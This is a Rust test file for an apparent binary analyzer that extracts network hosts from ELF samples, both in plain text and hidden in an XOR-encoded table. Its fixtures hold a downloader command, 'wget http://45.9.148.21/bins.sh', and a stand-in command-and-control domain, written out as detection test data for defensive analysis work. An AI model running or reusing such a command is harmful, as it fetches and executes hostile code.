//! Hosts that a program names, in plain text and in a hidden table.

mod examined;

use analyzers::{Budget, Cancel, Limits};
use analyzers_elf::Elf;
use examined::examined;
use specimens::elf::ordinary;

#[track_caller]
fn check(bytes: &[u8], domains: &[&str], addresses: &[&str]) {
    let budget = Budget::new(Limits::default(), Cancel::default());
    let (record, _) = examined(&mut Elf::new(), bytes, budget);
    let found: Vec<String> = record.hosts.ip_addresses().iter().map(ToString::to_string).collect();
    assert_eq!((record.hosts.domains(), &found[..]), (&to_owned(domains)[..], &to_owned(addresses)[..]));
}

fn to_owned(texts: &[&str]) -> Vec<String> {
    texts.iter().map(|&text| text.to_owned()).collect()
}

#[test]
fn hosts_in_plain_text_are_told_and_files_are_not() {
    let strings =
        ["wget http://45.9.148.21/bins.sh", "cnc.evil-host.ru", "libc.so.6", "setup.py", "8.8.8.8", "2.5.29.35"];
    check(&ordinary().strings(&strings).build(), &["cnc.evil-host.ru"], &["45.9.148.21"]);
    check(&ordinary().build(), &[], &[]);
}

#[test]
fn hosts_in_a_hidden_table_are_told() {
    for key in [0x22u8, 0x37, 0x54, 0xff] {
        // As the published source has it: each string with its own zero under the key.
        let hide = |text: &[u8]| text.iter().map(|byte| byte ^ key).collect::<Vec<u8>>();
        let table =
            [Vec::new(), hide(b"cnc.evil-host.ru\0"), hide(b"/proc/net/tcp\0"), hide(b"45.9.148.21:23\0")].join(&0);
        check(&ordinary().section(".data", 1, 3, table).build(), &["cnc.evil-host.ru"], &["45.9.148.21"]);
    }
    let alone: Vec<u8> = b"cnc.evil-host.ru\0".iter().map(|byte| byte ^ 0x22).collect();
    check(&ordinary().section(".data", 1, 3, alone).build(), &[], &[]);
}
